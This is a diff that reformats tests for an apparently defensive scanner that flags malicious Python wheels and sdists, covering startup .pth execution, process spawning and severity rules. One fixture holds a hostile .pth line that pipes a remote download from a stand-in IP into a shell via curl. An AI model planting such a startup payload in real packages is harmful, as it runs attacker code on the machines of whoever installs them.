@@ -122,7 +122,9 @@ def _bad_crc() -> Artifact:
 
 
 def _intact_stored_zip() -> Artifact:
-    return zip_artifact([("pkg/__init__.py", b""), ("pkg/data.txt", b"HELLO-WORLD-PAYLOAD")], compression=zipfile.ZIP_STORED)
+    return zip_artifact(
+        [("pkg/__init__.py", b""), ("pkg/data.txt", b"HELLO-WORLD-PAYLOAD")], compression=zipfile.ZIP_STORED
+    )
 
 
 def _nested(levels: int) -> Artifact:
@@ -1865,12 +1867,16 @@ TESTED_WITH_AN_INDEX = {
 
 
 def test_every_rule_has_a_positive_case() -> None:
-    missing = sorted({rule.id for rule in ALL_RULES} - {case.rule for case in POSITIVE.values()} - set(TESTED_WITH_AN_INDEX))
+    missing = sorted(
+        {rule.id for rule in ALL_RULES} - {case.rule for case in POSITIVE.values()} - set(TESTED_WITH_AN_INDEX)
+    )
     assert not missing, f"rules without a positive example in tests/test_rules.py: {missing}"
 
 
 def test_every_rule_has_a_negative_case() -> None:
-    missing = sorted({rule.id for rule in ALL_RULES} - {case.rule for case in NEGATIVE.values()} - set(TESTED_WITH_AN_INDEX))
+    missing = sorted(
+        {rule.id for rule in ALL_RULES} - {case.rule for case in NEGATIVE.values()} - set(TESTED_WITH_AN_INDEX)
+    )
     assert not missing, f"rules without a benign look-alike in tests/test_rules.py: {missing}"
 
 
@@ -1895,8 +1901,12 @@ def test_positive(case_id: str) -> None:
     assert result.error is None, result.error
     found = findings_of(result, case.rule)
     located = [f for f in found if f.path == case.path and f.line == case.line]
-    assert located, f"no {case.rule} at {case.path}:{case.line}; got {[(f.path, f.line, f.severity.label) for f in found]} among {sorted(rule_ids(result))}"
-    assert located[0].severity is case.severity, f"{case.rule} at {case.path}:{case.line} is {located[0].severity.label}"
+    assert located, (
+        f"no {case.rule} at {case.path}:{case.line}; got {[(f.path, f.line, f.severity.label) for f in found]} among {sorted(rule_ids(result))}"
+    )
+    assert located[0].severity is case.severity, (
+        f"{case.rule} at {case.path}:{case.line} is {located[0].severity.label}"
+    )
     assert located[0].when == case.when
     assert located[0].message
 
@@ -1924,7 +1934,9 @@ def test_namespace_package_pth_is_info_and_the_same_line_with_a_payload_is_malic
     assert "namespace-package" in benign.findings[0].message
     assert benign.verdict is Verdict.CLEAN
 
-    hostile = scan_wheel({"zope.interface-5.0-nspkg.pth": NSPKG + "; import os; os.system('curl -s http://198.51.100.7/p | sh')\n"})
+    hostile = scan_wheel(
+        {"zope.interface-5.0-nspkg.pth": NSPKG + "; import os; os.system('curl -s http://198.51.100.7/p | sh')\n"}
+    )
     pth = findings_of(hostile, "startup-pth-exec")
     assert [(f.severity, f.line) for f in pth] == [(H, 1)]
     assert (C, 1) in [(f.severity, f.line) for f in findings_of(hostile, "process-spawn")]
@@ -1932,8 +1944,12 @@ def test_namespace_package_pth_is_info_and_the_same_line_with_a_payload_is_malic
 
 
 def test_pth_importing_a_shipped_module_analyses_that_module_as_startup_code() -> None:
-    result = scan_wheel({"litellm_init.pth": "import litellm_hook\n", "litellm_hook.py": "import os\nos.system('id')\n"})
-    assert [(f.severity, f.when) for f in findings_of(result, "process-spawn") if f.path == "litellm_hook.py"] == [(C, "startup")]
+    result = scan_wheel(
+        {"litellm_init.pth": "import litellm_hook\n", "litellm_hook.py": "import os\nos.system('id')\n"}
+    )
+    assert [(f.severity, f.when) for f in findings_of(result, "process-spawn") if f.path == "litellm_hook.py"] == [
+        (C, "startup")
+    ]
     assert result.verdict is Verdict.MALICIOUS
 
 
@@ -1950,12 +1966,16 @@ def test_same_subprocess_call_is_clean_in_a_function_and_high_in_setup_py() -> N
 
 
 def test_build_tools_in_setup_py_are_info_only() -> None:
-    result = scan_sdist({"setup.py": """
+    result = scan_sdist(
+        {
+            "setup.py": """
         import subprocess
         from setuptools import setup
         subprocess.check_call(["cmake", "--build", "."])
         setup(name="demo")
-    """})
+    """
+        }
+    )
     assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", I, 3)]
     assert result.verdict is Verdict.CLEAN
 
@@ -1979,14 +1999,19 @@ def test_build_tools_named_in_other_ways_are_info_only(call: str) -> None:
 
 def test_a_package_run_as_a_program_may_copy_to_the_clipboard() -> None:
     # pyperclip's __main__.py: `python -m pyperclip -c` copies stdin at its top level. Medium, clean.
-    result = scan_wheel({"pkg/__init__.py": "", "pkg/__main__.py": """
+    result = scan_wheel(
+        {
+            "pkg/__init__.py": "",
+            "pkg/__main__.py": """
         import sys
         import pyperclip
         if sys.argv[1:] == ["-c"]:
             pyperclip.copy(sys.stdin.read())
         elif sys.argv[1:] == ["-p"]:
             sys.stdout.write(pyperclip.paste())
-    """})
+    """,
+        }
+    )
     assert {f.severity for f in findings_of(result, "input-capture")} == {M}
     assert result.verdict is Verdict.CLEAN
 
@@ -2009,7 +2034,9 @@ def test_setup_cfg_aliases_keep_every_command_of_setup_py_install_time() -> None
 
 
 def test_release_command_named_anywhere_else_stays_install_time() -> None:
-    result = scan_sdist({"setup.py": """
+    result = scan_sdist(
+        {
+            "setup.py": """
         import os
         from setuptools import Command, setup
 
@@ -2019,7 +2046,9 @@ def test_release_command_named_anywhere_else_stays_install_time() -> None:
 
         PublishCommand(None).run()
         setup(name="demo", cmdclass={"publish": PublishCommand})
-    """})
+    """
+        }
+    )
     assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", H, 6)]
 
 
@@ -2029,13 +2058,17 @@ def test_duplicate_member_analyses_the_copy_that_is_installed() -> None:
 
 
 def test_process_spawn_declares_every_severity_it_reports() -> None:
-    result = scan_sdist({"setup.py": """
+    result = scan_sdist(
+        {
+            "setup.py": """
         import subprocess
         from setuptools import setup
         subprocess.check_call(["cmake", "--build", "."])
         subprocess.check_call(COMMAND)
         setup(name="demo")
-    """})
+    """
+        }
+    )
     reported = {f.severity for f in findings_of(result, "process-spawn")}
     assert reported == {I, M}
     assert reported <= set(RULES_BY_ID["process-spawn"].severities)
